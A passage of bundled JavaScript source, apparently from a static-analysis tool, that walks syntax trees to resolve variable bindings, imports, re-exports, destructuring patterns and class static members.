  const pattern = source[nameNode.startIndex] === "{" || source[nameNode.startIndex] === "[";
  const binds = constant || watched || exportsSlotsOf !== void 0 || !objectTarget && mayBind && (!functionValue || thenCallback) || nameNode.type === "array_pattern" && valueType === "array" || nameNode.type === "object_pattern" && (valueType === "object" || valueType === "array") || pattern && identifiersIn(nameNode.text).some((name2) => bindings.mayResolve(name2));
  return { simpleName, valueType, constant, mayBeModule, literal, objectTarget, slots, container, local, exportsSlotsOf, mayBind, binds, loop, collection };
}
function spreadsKnown(source, value, known) {
  const text = source.slice(value.startIndex, value.endIndex);
  for (let at = text.indexOf("..."); at >= 0; at = text.indexOf("...", at + 3)) {
    let name2 = at + 3;
    while (/\s/.test(text[name2] ?? "")) name2++;
    if (known(identifierAt(text, name2))) return true;
  }
  return false;
}
var MAX_PARENTHESIZED_TEXT = 400;
function parenthesizedMayBeModule(source, value, known) {
  const text = source.slice(value.startIndex, Math.min(value.endIndex, value.startIndex + MAX_PARENTHESIZED_TEXT));
  return value.endIndex - value.startIndex > MAX_PARENTHESIZED_TEXT || identifiersIn(text).some((name2) => known(name2) || name2 === "import" || name2 === "require");
}
function declaration(nameNode, value, read, resolver, bindings, imports, known, declareLocals) {
  const { simpleName, constant, mayBeModule, literal, objectTarget, slots, container, local, exportsSlotsOf, mayBind, valueType, loop } = read;
  let parent;
  const statement = () => parent ??= nameNode.parent;
  if (constant) resolver.constants.add(simpleName, value);
  const entries = slots || container ? literalEntries(literal, resolver, bindings) : [];
  if (slots) objectSlots(nameNode, literal, entries, resolver, bindings);
  if (container && entries.length > 0) {
    bindings.container(simpleName, entries, statement());
    declareLocals(simpleName);
  }
  if (objectTarget) return;
  const heldValue = local ? heldLiteral(literalEntries(literal, resolver, bindings), statement()) : void 0;
  if (heldValue) return bindHeld(nameNode, simpleName, heldValue, statement(), bindings, declareLocals);
  const scopeFor = (name2, path3) => {
    if (!assigns(statement()) && !(loop && loopAssigns(statement()))) return bindings.scopeOf(nameNode);
    if (path3) declareLocals(name2);
    return bindings.declaringScope(name2, nameNode.startIndex);
  };
  if (loop) return mayBind ? bindLoop(nameNode, value, resolver, bindings, scopeFor) : void 0;
  const nameType = nameNode.type;
  if (nameType === "array_pattern" && valueType === "array") return bindArrayPattern(nameNode, value, resolver, bindings, scopeFor);
  if (nameType === "object_pattern" && (valueType === "object" || valueType === "array")) {
    const entries2 = new Map(literalEntries(value, resolver, bindings));
    const spread = valueType === "object" && /\.\.\./.test(value.text) ? resolver.resolve(value) : void 0;
    return bindDestructured(nameNode, (key) => entries2.get(key) ?? (spread && through(normalMembers(extend(spread, key)), value)), bindings, resolver, scopeFor);
  }
  if (exportsSlotsOf !== void 0) bindings.aliasSlots(resolver.slotKey(nameNode), exportsSlotsOf, statement());
  if (!mayBind) return nameType === "object_pattern" || nameType === "array_pattern" ? hidePattern(nameNode, resolver, bindings, scopeFor) : void 0;
  if (valueType === "arrow_function" || valueType === "function_expression" || valueType === "function_declaration") {
    if (CALLBACK_METHODS.has(simpleName) && statement().type === "member_expression") thenParameter(statement(), value, resolver, bindings);
    if (valueType === "function_declaration" || bindings.returnedBy(value.startIndex) === void 0) return;
  }
  const collection = read.collection && nameType === "identifier" ? resolver.collectionEntries(value)?.values : void 0;
  if (collection?.length && moduleLevel(nameNode)) {
    bindings.container(simpleName, collection, statement());
    declareLocals(simpleName);
    return;
  }
  if (collection?.length) return bindHeld(nameNode, simpleName, heldLiteral(collection, statement()), statement(), bindings, declareLocals);
  const slotCollection = read.collection && nameType === "member_expression" ? resolver.collectionEntries(value)?.values : void 0;
  const collectionSlot = slotCollection?.length ? resolver.slotKey(nameNode) : void 0;
  if (collectionSlot !== void 0) {
    for (const [key, held] of slotCollection) bindSlotAt(bindings, `${collectionSlot}.${key !== void 0 && /^[\w$]+$/.test(key) ? key : ANY_ENTRY}`, held, statement());
    bindSlotAt(bindings, `${collectionSlot}.${EVERY_KEY}`, slotCollection[0][1], statement());
    return;
  }
  const expression = valueType === "class_heritage" ? heritageOf(value) : value;
  const path2 = mayBeModule && expression ? resolver.resolve(expression) : void 0;
  if (nameType === "array_pattern" && valueType === "identifier" && (path2?.properties || bindings.held(value.text, value))) {
    for (const [position, target] of arrayElements(nameNode).entries()) {
      if (target !== HOLE && target?.type === "rest_pattern") break;
      const local2 = elementName(target);
      const held = !local2 ? void 0 : path2 ? extend(path2, String(position)) : bindings.picked(value.text, value, String(position));
      if (local2 && held?.module !== NOTHING && (held || bindings.mayResolve(local2.text))) bindings.bind(scopeFor(local2.text, held), local2.text, held && through(normalMembers(held), statement()));
    }
    return;
  }
  const element = !path2 && mayBeModule && valueType === "call_expression" && (nameType === "identifier" || nameType === "array_pattern") ? resolver.elementOf(value) : void 0;
  if (element && nameType === "array_pattern") {
    for (const target of arrayElements(nameNode)) {
      if (target !== HOLE && target?.type === "rest_pattern") break;
      const local2 = elementName(target);
      if (local2) bindings.bind(scopeFor(local2.text, element), local2.text, through(normalMembers(element), statement()));
    }
    return;
  }
  if (element && moduleLevel(nameNode)) {
    bindings.container(simpleName, [[EVERY_INDEX, element]], statement());
    declareLocals(simpleName);
    return;
  }
  if (element) return bindHeld(nameNode, simpleName, heldLiteral([[EVERY_INDEX, element]], statement()), statement(), bindings, declareLocals);
  if (path2 && path2.members.length === 0 && path2.module !== GLOBAL && (valueType === "call_expression" || valueType === "await_expression") && !factoryCall(value, resolver)) {
    imports.push({ start: value.startIndex, end: value.endIndex, module: path2.module, star: false });
  }
  const fromProject = !path2 && expression ? resolver.projectRequire(expression) : void 0;
  const exported = fromProject !== void 0 ? resolver.projectExports(fromProject, expression) : void 0;
  if (exported && simpleName !== void 0 && nameType === "identifier") {
    bindNamespace(bindings, simpleName, exported, statement());
    if (bindings.mayResolve(simpleName)) bindings.bind(bindings.scopeOf(nameNode), simpleName, void 0);
    return;
  }
  if (nameType === "member_expression" || nameType === "subscript_expression" || nameType === "property_identifier" || nameType === "private_property_identifier" || nameType === "arguments" || nameType === "=") {
    const field = nameType === "property_identifier" || nameType === "private_property_identifier";
    const key = field ? fieldSlot(nameNode) : path2 && nameType === "member_expression" && statement().type === "call_expression" ? resolver.mapEntrySlot(nameNode) : resolver.slotKey(nameNode);
    if (!path2 || !key) return;
    const held = through(normalMembers(path2), statement());
    bindSlotAt(bindings, key, held, statement());
    if (field && !key.startsWith(THIS_SLOT)) bindSlotAt(bindings, `${THIS_SLOT}constructor.${nameNode.text}`, held, statement());
    return;
  }
  if (simpleName !== void 0) {
    const owner = !path2 && valueType === "new_expression" ? resolver.instanceOwner(value) : void 0;
    if (owner !== void 0) bindings.instanceOf(simpleName, owner, statement());
    if (!path2 && !bindings.mayResolve(simpleName)) return;
    const step = path2 && (valueType === "identifier" || valueType === "member_expression" || path2.members.length === 0 ? path2 : through(path2, statement()));
    const assigned = assigns(statement());
    if (assigned && path2) declareLocals(simpleName);
    const scope = valueType === "class_heritage" ? bindings.scopeOf(nameNode, statement()) : assigned ? bindings.declaringScope(simpleName, nameNode.startIndex) : bindings.scopeOf(nameNode);
    bindings.bind(scope, simpleName, step && normalMembers(step));
    const namespace = path2 && namespaceExporting(statement());
    if (namespace) bindings.bindSlot(`${namespace}.${simpleName}`, through(normalMembers(path2), statement()));
    return;
  }
  if (nameType !== "object_pattern") return;
  const slot = !path2 && !exported && expression ? resolver.slotKey(expression)?.split(".") : void 0;
  const slotted = slot !== void 0 && bindings.slotRoots.has(slot[0]);
  const member = (key) => {
    if (path2) return normalMembers(extend(path2, key));
    const entry = exported && ownEntry(exported, key);
    const held = exported ? entry && normalMembers(entry) : slotted ? bindings.slotPath([...slot, key]) : void 0;
    return held && through(held, statement());
  };
  if (!path2 && !exported && !slotted && !identifiersIn(nameNode.text).some((n) => bindings.mayResolve(n))) return;
  const asNamespace = exported && ((key, local2) => key !== void 0 && (local2.type === "identifier" || local2.type === "shorthand_property_identifier_pattern") && !ownEntry(exported, key) && namespaceMembers(exported, key, local2.text, bindings, statement()));
  bindDestructured(nameNode, member, bindings, resolver, scopeFor, 0, asNamespace || void 0);
}
function bindHeld(nameNode, name2, value, statement, bindings, declareLocals) {
  const assigned = assigns(statement);
  if (assigned) declareLocals(name2);
  bindings.bind(assigned ? bindings.declaringScope(name2, nameNode.startIndex) : bindings.scopeOf(nameNode), name2, value);
}
function elementName(element) {
  const local = element !== HOLE && element?.type === "assignment_pattern" ? element.childForFieldName("left") : element !== HOLE ? element : null;
  return local?.type === "identifier" ? local : void 0;
}
function bindArrayPattern(pattern, array, resolver, bindings, scopeFor) {
  const values = arrayElements(array);
  const spread = values.findIndex((v) => v !== HOLE && v?.type === "spread_element");
  arrayElements(pattern).forEach((target, position) => {
    const local = elementName(target);
    if (!local) return;
    const element = spread >= 0 && position >= spread ? void 0 : values[position];
    const path2 = element && element !== HOLE ? resolver.resolve(element) : void 0;
    if (path2 || bindings.mayResolve(local.text)) bindings.bind(scopeFor(local.text, path2), local.text, path2 && through(normalMembers(path2), pattern.parent));
  });
}
function hidePattern(pattern, resolver, bindings, scopeFor) {
  if (!identifiersIn(pattern.text).some((name2) => bindings.mayResolve(name2))) return;
  if (pattern.type === "object_pattern") return bindDestructured(pattern, () => void 0, bindings, resolver, scopeFor);
  for (const element of arrayElements(pattern)) {
    const local = elementName(element);
    if (local && bindings.mayResolve(local.text)) bindings.bind(scopeFor(local.text, void 0), local.text, void 0);
  }
}
function bindLoop(left, collection, resolver, bindings, scopeFor) {
  const [key, value] = left.type === "array_pattern" ? [elementName(arrayElements(left)[0] ?? null), elementName(arrayElements(left)[1] ?? null)] : [void 0, left.type === "identifier" ? left : void 0];
  if (key && bindings.mayResolve(key.text)) bindings.bind(scopeFor(key.text, void 0), key.text, void 0);
  if (!value) return;
  const path2 = resolver.elementOf(collection, left.type === "array_pattern");
  if (path2 || bindings.mayResolve(value.text)) bindings.bind(scopeFor(value.text, path2), value.text, path2);
}
var loopAssigns = (statement) => statement.type === "for_in_statement" && !statement.childForFieldName("kind");
function bindDestructured(pattern, member, bindings, resolver, scopeFor = () => bindings.scopeOf(pattern), depth = 0, asNamespace) {
  for (const [key, local] of destructured(pattern, (computed) => resolver.propertyKey(computed), true)) {
    if (asNamespace?.(key, local)) continue;
    const value = member(key ?? ANY);
    if (local.type === "object_pattern") {
      if (value && depth < MAX_RESOLVE_DEPTH) bindDestructured(local, (inner) => extend(value, inner), bindings, resolver, scopeFor, depth + 1);
      continue;
    }
    if (value || bindings.mayResolve(local.text)) bindings.bind(scopeFor(local.text, value), local.text, value);
  }
}
var moduleExportName = (node) => node ? node.type === "string" ? stringValue(node) : node.text : void 0;
function reexportStatement(node, module2, bindings, filter, imports) {
  if (!filter.relevant(module2) || /^export\s+type\b/.test(node.text)) return;
  imports.push({ start: node.startIndex, end: node.endIndex, module: module2, star: false });
  const offer = (name2, members) => bindings.reexport(name2, normalMembers(through({ module: module2, members }, node, false)));
  const clause = node.namedChildren.find((c) => c?.type === "export_clause");
  const namespace = node.namedChildren.find((c) => c?.type === "namespace_export");
  if (clause) {
    for (const spec of clause.namedChildren) {
      if (!spec || spec.type !== "export_specifier" || /^type\s/.test(spec.text)) continue;
      const nameNode = spec.childForFieldName("name");
      const exported = moduleExportName(nameNode);
      const as = moduleExportName(spec.childForFieldName("alias") ?? nameNode);
      if (exported !== void 0 && as !== void 0) offer(as, [exported]);
    }
  } else if (namespace) {
    const as = moduleExportName(namespace.namedChildren.find((c) => c?.type === "identifier" || c?.type === "string"));
    if (as !== void 0) offer(as, []);
  } else for (const member of filter.explicitMembers(module2)) offer(member, [member]);
}
var RENAMED_EXPORT = /\bexport\s*\{[^}]*\bas\b/;
function renamedExports(root, source, bindings, binders) {
  if (!RENAMED_EXPORT.test(source)) return;
  for (const statement of root.namedChildren) {
    if (statement?.type !== "export_statement" || statement.childForFieldName("source") || /^export\s+type\b/.test(statement.text)) continue;
    const clause = statement.namedChildren.find((c) => c?.type === "export_clause");
    for (const spec of clause?.namedChildren ?? []) {
      const local = spec?.type === "export_specifier" && !/^type\s/.test(spec.text) ? spec.childForFieldName("name") : null;
      const alias = spec?.childForFieldName("alias");
      const as = moduleExportName(alias);
      if (local?.type !== "identifier" || as === void 0 || as === local.text) continue;
      binders.push(spec.startIndex);
      const path2 = bindings.lookup(local.text, local);
      bindings.exportAs(as, path2 && normalMembers(through(path2, statement)));
      bindings.aliasSlots(as, local.text, statement);
    }
  }
}
var THIS_SLOT = "this.";
function fieldSlot(nameNode) {
  const field = nameNode.parent;
  const owner = field?.children.some((c) => c?.type === "static") ? field.parent?.parent?.childForFieldName("name") : void 0;
  return owner ? `${owner.text}.${nameNode.text}` : `${THIS_SLOT}${nameNode.text}`;
}
function factoryCall(value, resolver) {
  const call2 = value.type === "await_expression" ? value.namedChild(0) : value;
  const fn = call2?.type === "call_expression" ? call2.childForFieldName("function") : null;
  return fn ? resolver.resolve(fn)?.returns !== void 0 : false;
}
var FUNCTIONS = /* @__PURE__ */ new Set(["function_declaration", "generator_function_declaration", "function_expression", "generator_function", "arrow_function", "method_definition", "class_body"]);
function factoryName(value, past) {
  const fn = enclosing(value, FUNCTIONS, past);
  if (!fn) return void 0;
  const atTop = (node) => node?.type === "program" || node?.type === "export_statement" && node.parent?.type === "program";
  if (fn.type === "function_declaration" || fn.type === "generator_function_declaration") return atTop(fn.parent) ? fn.childForFieldName("name") ?? void 0 : void 0;
  if (fn.type !== "function_expression" && fn.type !== "arrow_function" && fn.type !== "generator_function") return void 0;
  const declarator = fn.parent;
  const name2 = declarator?.type === "variable_declarator" ? declarator.childForFieldName("name") : null;
  return name2?.type === "identifier" && atTop(declarator.parent?.parent ?? null) ? name2 : void 0;
}
function staticMethod(value) {
  const near = enclosing(value, FUNCTIONS);
  const fn = near ?? methodPast(value, (top) => (top.type === "export_statement" ? top.childForFieldName("declaration") : top) ?? void 0, (member) => member.type === "method_definition" ? member : void 0);
  if (fn?.type !== "method_definition" || fn.parent?.type !== "class_body" || isAccessor(fn)) return void 0;
  const name2 = fn.childForFieldName("name");
  if (name2?.type !== "property_identifier") return void 0;
  if (!fn.children.some((c) => c?.type === "static")) {
    const owner2 = staticOwner(fn.parent.parent);
    return owner2 && name2.text !== "constructor" ? { owner: owner2.owner, slot: `${owner2.slot}.prototype.${name2.text}`, returns: true, walked: !near, instance: true } : void 0;
  }
  const owner = staticOwner(fn.parent.parent);
  return owner && { owner: owner.owner, slot: owner.past ? owner.slot : `${owner.slot}.${name2.text}`, returns: true, past: owner.past, walked: !near };
}
var PLACED_IN = /* @__PURE__ */ new Set(["pair", "object", "assignment_expression", "augmented_assignment_expression", "export_statement"]);
function placedFunction(value) {
  const fn = enclosing(value, FUNCTIONS);
  if (!fn || !IN_PLACE_FUNCTIONS.has(fn.type)) return void 0;
  const holder = fn.parent;
  if (!holder || !PLACED_IN.has(holder.type)) return void 0;
  if (holder.type === "export_statement") return holder.children.some((c) => c?.type === "default") ? { fn, name: "default" } : void 0;
  if (holder.type.endsWith("assignment_expression")) {
    if (!assigns(holder)) return void 0;
    const left = holder.childForFieldName("left");
    const property = left?.type === "member_expression" ? left.childForFieldName("property") : null;
    return holder.childForFieldName("right")?.id === fn.id && property?.type === "property_identifier" ? { fn, name: property.text } : void 0;
  }
  const key = holder.type === "pair" ? holder.childForFieldName("key") : fn.type === "method_definition" && !isAccessor(fn) ? fn.childForFieldName("name") : null;
  const literal = holder.type === "pair" ? holder.parent : holder;
  if (key?.type !== "property_identifier" || literal?.type !== "object" || holder.type === "pair" && holder.childForFieldName("value")?.id !== fn.id) return void 0;
  return definesLiteral(literal) ? { fn, name: key.text } : void 0;
}
function definesLiteral(literal) {
  const parent = literal.parent;
  if (parent?.type === "variable_declarator") return parent.childForFieldName("value")?.id === literal.id;
  if (assigns(parent)) return parent.childForFieldName("right")?.id === literal.id;
  return parent?.type === "export_statement";
}
function staticOwner(declaration2, depth = 0) {
  if (declaration2?.type === "class" && depth >= MAX_NESTED_CLASSES) {
    const outer2 = outerSlot(declaration2, (top) => (top.type === "export_statement" ? top.childForFieldName("declaration") : top) ?? void 0, staticFieldName);
    return outer2 && { ...outer2, past: true };
  }
  if (declaration2?.type === "class_declaration") {
    const owner = declaration2.childForFieldName("name");
    const top = declaration2.parent?.type === "program" || declaration2.parent?.type === "export_statement" && declaration2.parent.parent?.type === "program";
    return owner && top ? { owner, slot: owner.text } : void 0;
  }
  const field = declaration2?.type === "class" ? declaration2.parent : null;
  const held = field && depth === 0 ? classExpressionName(field) : void 0;
  if (held) return { owner: held, slot: held.text };
  const key = field ? staticFieldName(field) : void 0;
  const outer = key ? staticOwner(field.parent?.parent ?? null, depth + 1) : void 0;
  return outer && { owner: outer.owner, slot: outer.past ? outer.slot : `${outer.slot}.${key.text}`, past: outer.past };
}
function classExpressionName(holder) {
  const statement = holder.parent;
  if (holder.type === "variable_declarator") {
    const name2 = holder.childForFieldName("name");
    const top = statement?.parent?.type === "program" || statement?.parent?.type === "export_statement" && statement.parent.parent?.type === "program";
    return name2?.type === "identifier" && top ? name2 : void 0;
  }
  if (!assigns(holder) || statement?.type !== "expression_statement" || statement.parent?.type !== "program") return void 0;
  const left = holder.childForFieldName("left");
  const property = left?.type === "member_expression" ? left.childForFieldName("property") : null;
  return property?.type === "property_identifier" && /^(?:module\.)?exports$/.test(left.childForFieldName("object").text) ? property : void 0;
}
function classNameAround(node) {
  const cls = enclosing(node, CLASS_BODY)?.parent;
  if (!cls) return void 0;
  return cls.childForFieldName("name") ?? (cls.type === "class" && cls.parent ? classExpressionName(cls.parent) : void 0);
}
function staticFieldName(field) {
  if (field.type !== "field_definition" && field.type !== "public_field_definition" || !field.children.some((c) => c?.type === "static")) return void 0;
  const key = field.childForFieldName("property") ?? field.childForFieldName("name");
  return key?.type === "property_identifier" ? key : void 0;
}
var JS_FACTORIES = { expressionBody: "=>", fallback: JS_FALLBACK, ownerName: factoryName, staticMethod, placedFunction, functions: FUNCTIONS, inPlace: RETURNED_IN_PLACE, declaration: "function_declaration" };
function projectImport(node, specifier, bindings, project2) {
  const clause = node.namedChildren.find((c) => c?.type === "import_clause");
  if (!clause) return;
  const scope = bindings.scopeOf(node);
  const bind = (local, imported) => {
    const path2 = project2.lookup(specifier, imported);
    if (path2) bindings.bind(scope, local, through(normalMembers(path2), node));
    else if (namespaceMembers(project2.exportsOf(specifier), imported, local, bindings, node)) return;
    else if (bindings.mayResolve(local)) bindings.bind(scope, local, void 0);
  };
  for (const part of clause.namedChildren) {
    if (part?.type === "identifier") bind(part.text, "default");
    else if (part?.type === "namespace_import") {
      const local = part.namedChildren.find((c) => c?.type === "identifier");
      if (local) bindNamespace(bindings, local.text, project2.exportsOf(specifier), node);
    } else if (part?.type === "named_imports") {
      for (const spec of part.namedChildren) {
        if (!spec || spec.type !== "import_specifier") continue;
        const nameNode = spec.childForFieldName("name");
        const alias = spec.childForFieldName("alias") ?? nameNode;
        const imported = moduleExportName(nameNode);
        if (imported !== void 0 && alias) bind(alias.text, imported);
      }
    }
  }
}
function frozenLiteral(call2) {
  const name2 = call2.childForFieldName("function")?.text.replace(/\s+/g, "");
  const [only] = namedChildrenOf(call2);
  if (name2 === void 0 || !OBJECT_WRAPPERS.includes(name2) || name2 === "Object.create") return void 0;
  return only?.type === "object" || only?.type === "array" ? only : only?.type === "as_expression" || only?.type === "satisfies_expression" ? literalIn(only) : void 0;
}
function literalIn(expression) {
  const inner = expression.namedChild(0);
  return inner?.type === "object" || inner?.type === "array" ? inner : void 0;
}
function moduleLevel(name2) {
  const parent = name2.parent;
  const assigned = assigns(parent);
  const statement = parent?.type === "variable_declarator" || assigned ? parent.parent : null;
  if (!statement) return false;
  if (assigned) return statement.type === "expression_statement" && statement.parent?.type === "program";
  const top = statement.parent?.type === "export_statement" ? statement.parent.parent : statement.parent;
  return top?.type === "program";
}
function objectSlots(nameNode, object, entries, resolver, bindings) {
  const key = resolver.slotKey(nameNode);
  if (!key) return;
  for (const [property, path2] of entries) if (property !== void 0 && /^[\w$]+$/.test(property)) bindSlotAt(bindings, `${key}.${property}`, path2, object);
  const whole = key.includes(".") ? heldLiteral(entries, object) : void 0;
  if (whole) bindSlotAt(bindings, key, whole, object);
}
function literalEntries(literal, resolver, bindings, depth = 0) {
  const out2 = [];
  const valueOf = (value) => {
    if (value.type !== "object" && value.type !== "array") return resolver.resolve(value, value.text, depth + 1);
    if (depth < MAX_RESOLVE_DEPTH) return heldLiteral(literalEntries(value, resolver, bindings, depth + 1));
    resolver.deepLiterals.set(value.startIndex, value);
    return void 0;
  };
  if (literal.type === "array") {
    let spread = false;
    arrayElements(literal).forEach((element, i2) => {
      if (element === HOLE || !element) return;
      if (element.type === "spread_element") {
        spread = true;
        return;
      }
      const path2 = valueOf(element);
      if (path2) out2.push([spread ? void 0 : String(i2), through(normalMembers(path2), element)]);
    });
    return out2;
  }
  for (const prop of literal.namedChildren) {
    if (prop?.type === "spread_element") {
      const spread = prop.namedChild(0);
      const held = spread ? valueOf(spread) ?? (spread.type === "identifier" ? bindings.literal(spread.text, spread) : void 0) : void 0;
      if (held?.properties) out2.push(...Object.entries(held.properties));
      continue;
    }
    const name2 = prop?.type === "pair" || prop?.type === "method_definition" ? prop.childForFieldName(prop.type === "pair" ? "key" : "name") : prop?.type === "shorthand_property_identifier" ? prop : null;
    if (!name2) continue;
    const values = prop?.type === "pair" ? [prop.childForFieldName("value")] : prop?.type === "method_definition" ? isAccessor(prop) ? getterReturns(prop) : [prop] : [prop];
    let path2;
    for (const value of values) {
      path2 = !value ? void 0 : value.type === "shorthand_property_identifier" ? chainPath(bindings, [value.text], value) : valueOf(value);
      if (path2) break;
    }
    if (path2) out2.push([resolver.propertyKey(name2), through(normalMembers(path2), prop)]);
  }
  return out2;
}
var isAccessor = (method) => method.children.some((c) => c?.type === "get" || c?.type === "set");
function getterReturns(method) {
  return method.child(0)?.type === "get" || method.child(1)?.type === "get" ? returnsIn(method.childForFieldName("body")) : [];
}
var RETURN_HOLDERS = /* @__PURE__ */ new Set(["statement_block", "if_statement", "else_clause", "try_statement", "catch_clause", "finally_clause", "switch_statement", "switch_body", "switch_case", "switch_default", "for_statement", "for_in_statement", "while_statement", "do_statement", "labeled_statement"]);
function returnsIn(body2) {
  const out2 = [];
  const pending = namedChildrenOf(body2).reverse();
  for (let statement = pending.pop(); statement; statement = pending.pop()) {
    if (statement.type === "return_statement") {
      const value = statement.namedChild(0);
      if (value) out2.push(value);
    } else if (RETURN_HOLDERS.has(statement.type)) {
      const inner = namedChildrenOf(statement);
      for (let i2 = inner.length - 1; i2 >= 0; i2--) pending.push(inner[i2]);
    }
  }
  return out2;
}
function namespaceExporting(declarator) {
  const exported = declarator.type === "import_alias" ? declarator.parent : declarator.parent?.parent;
  const namespace = exported?.type === "export_statement" && exported.parent?.type === "statement_block" ? exported.parent.parent : null;
  const name2 = namespace?.type === "internal_module" || namespace?.type === "module" ? namespace.childForFieldName("name") : null;
  return name2?.type === "identifier" ? name2.text : void 0;
}
var CALLBACK_METHODS = /* @__PURE__ */ new Set(["then", "forEach", "map", "flatMap", "filter", "find", "findLast", "some", "every"]);
var REDUCERS = /* @__PURE__ */ new Set(["reduce", "reduceRight"]);
var CALLBACK_END = /(?:then|forEach|map|flatMap|filter|find|findLast|some|every)$/;
var CARRIER_AT = /(?:\[|Promise\s*\.|Object\s*\.\s*(?:values|entries)\s*\(|new\s+(?:Set|Map|WeakSet|WeakMap)\s*\()/y;
var PROMISE_OF_NAME_AT = /(?:new\s+)?[\p{L}_$][\p{L}\p{N}_$]*\s*(?:\(\s*(?:"[^"\\\n]*"|'[^'\\\n]*')\s*\)\s*)?(?:\(\s*\)\s*)?\.\s*then\s*\(/uy;
var NAME_MEMBER = /^[\p{L}_$][\p{L}\p{N}_$]*\s*\.\s*[\p{L}_$]+$/u;
var IN_PLACE_START = /* @__PURE__ */ new Set(["[", "P", "O", "n"]);
function bindGenerators(root, source, resolver, bindings, binders) {
  if (!GENERATOR_AT.test(source)) return false;
  let bound = false;
  for (const [name2, fn] of topLevelFunctions(root)) {
    const path2 = resolver.yielded(fn);
    if (!path2 || bindings.boundIn(bindings.scopes.rootId, name2)) continue;
    binders.push(fn.startIndex);
    bindings.container(name2, [[EVERY_INDEX, path2]], fn);
    bound = true;
  }
  return bound;
}
var GENERATOR_AT = /function\s*\*/;
var GENERATOR_NAME = /\bfunction\s*\*\s*([\p{L}_$][\p{L}\p{N}_$]*)/gu;
var OF_AFTER = /\s+of(?![\w$])/y;
var FOR_OF = /\bfor\s*(?:await\s*)?\(\s*(?:(?:const|let|var)\s+)?(?:[^\s()[\]{},;=]+|\[[^\]]{0,200}\])\s+of(?![\w$])\s*/g;
var FOR_OF_LONG_PATTERN = /\bfor\s*(?:await\s*)?\(\s*(?:(?:const|let|var)\s+)?\[[^\]]{201}/g;
var carrierMayResolve = (head, known) => head === void 0 || head === "Promise" || head === "Object" || head === "new" || head === "import" || known(head);
var PROMISE = "Promise.resolve";
var COLLECTIONS = /* @__PURE__ */ new Set(["Map", "WeakMap", "Set", "WeakSet", PROMISE]);
var MADE_OF_ARGUMENT = /* @__PURE__ */ new Set(["Proxy", "WeakRef", "Map", "WeakMap"]);
var ITERATOR = "Symbol.iterator";
var SUBSETS = /* @__PURE__ */ new Set(["filter", "slice", "reverse", "sort", "toReversed", "toSorted", "concat", "splice", "toSpliced", "with", "flat"]);
var ELEMENT_READS = /* @__PURE__ */ new Set(["find", "findLast", "at", "pop", "shift"]);
var ELEMENT_READ_CALL = /\.\s*(?:find|findLast|at|pop|shift|get|reduce|reduceRight)\s*(?:\?\.\s*)?\(/;
function entryUnder(held, key) {
  const entry = extend(held, key ?? ANY_ENTRY);
  return entry.module === NOTHING && key !== void 0 && Object.keys(held.properties ?? {}).length === 1 ? extend(held, ANY_ENTRY) : entry;
}
function calledInPlace(node) {
  const fn = node?.type === "call_expression" ? node.childForFieldName("function") : null;
  return fn?.type === "parenthesized_expression" && FUNCTIONS_IN_PLACE.has(unwrap(fn).type);
}
function iteratorStepped(next) {
  const fn = next?.type === "call_expression" && namedChildrenOf(next).length === 0 ? next.childForFieldName("function") : null;
  return fn?.type === "member_expression" && fn.childForFieldName("property")?.text === "next" ? fn.childForFieldName("object") ?? void 0 : void 0;
}
var yieldsIn = (generator) => keywordsIn(generator, "yield", "yield_expression");
function keywordsIn(fn, keyword, type) {
  const body2 = fn.childForFieldName("body");
  if (!body2) return [];
  const out2 = [];
  const text = body2.text;
  for (let i2 = text.indexOf(keyword); i2 >= 0; i2 = text.indexOf(keyword, i2 + keyword.length)) {
    const at = body2.startIndex + i2;
    const node = body2.descendantForIndex(at, at + keyword.length);
    const held = node?.type === type ? node : node?.parent?.type === type ? node.parent : null;
    if (held && held.startIndex === at) out2.push(held);
  }
  return out2;
}
function returnedBy(callback) {
  const sole = returnedInPlace(callback);
  if (sole) return [sole];
  const fn = unwrap(callback);
  if (fn.childForFieldName("body")?.type !== "statement_block") return [];
  return keywordsIn(fn, "return", "return_statement").flatMap((statement) => {
    const value = statement.namedChildren.find((c) => c !== null && !isComment(c));
    return value ? [value] : [];
  });
}
function elementReadOf(node) {
  if (node.type === "subscript_expression") {
    const object = node.childForFieldName("object");
    return object?.type === "call_expression" ? object : void 0;
  }
  const fn = node.type === "call_expression" ? node.childForFieldName("function") : null;
  return fn?.type === "member_expression" && ELEMENT_READS.has(fn.childForFieldName("property")?.text ?? "") ? fn.childForFieldName("object") ?? void 0 : void 0;
}
function describedValue(descriptor) {
  for (const prop of descriptor.namedChildren) {
    const key = prop?.type === "pair" ? prop.childForFieldName("key")?.text : prop?.type === "method_definition" ? prop.childForFieldName("name")?.text : void 0;
    if (key === "value" && prop.type === "pair") return prop.childForFieldName("value");
    if (key !== "get") continue;
    if (prop.type === "method_definition") return soleReturn(prop.childForFieldName("body"));
    const getter = prop.childForFieldName("value");
    return getter ? returnedInPlace(getter) : null;
  }
  return null;
}
function entryMapped(callback) {
  const returned = callback && returnedInPlace(callback);
  const pattern = callback && firstParameter(unwrap(callback));
  const [key, value] = pattern?.type === "array_pattern" ? arrayElements(pattern).slice(0, 2).map((e) => elementName(e ?? null)) : [];
  const [first, second] = returned?.type === "array" ? [arrayElement(returned, 0), arrayElement(returned, 1)] : [];
  if (value === void 0 || second?.type !== "identifier" || second.text !== value.text) return void 0;
  return key !== void 0 && first?.type === "identifier" && first.text === key.text ? "itself" : "renamed";
}
function topLevelFunctions(program) {
  const functions = /* @__PURE__ */ new Map();
  const add = (name2, fn) => {
    if (name2?.type === "identifier" && fn && !functions.has(name2.text)) functions.set(name2.text, fn);
  };
  for (const child of program.namedChildren) {
    const statement = child?.type === "export_statement" ? child.childForFieldName("declaration") : child;
    const type = statement?.type;
    if (type === "function_declaration" || type === "generator_function_declaration") add(statement.childForFieldName("name"), statement);
    else if (type === "lexical_declaration" || type === "variable_declaration") {
      for (const declarator of statement.namedChildren) {
        const value = declarator?.type === "variable_declarator" ? declarator.childForFieldName("value") : null;
        if (value?.type === "arrow_function" || value?.type === "function_expression" || value?.type === "generator_function") add(declarator.childForFieldName("name"), value);
      }
    }
  }
  return functions;
}
function programOf(node) {
  let top = node;
  while (top.parent) top = top.parent;
  return top;
}
function firstParameter(fn) {
  const first = fn.childForFieldName("parameter") ?? fn.childForFieldName("parameters")?.namedChild(0);
  return first?.type === "required_parameter" ? first.childForFieldName("pattern") : first;
}
function parametersOf(fn) {
  const single = fn.childForFieldName("parameter");
  return single ? [single] : namedChildrenOf(fn.childForFieldName("parameters")).map((p) => p.type === "required_parameter" ? p.childForFieldName("pattern") : p);
}
function returnedInPlace(fn) {
  const inPlace = unwrap(fn);
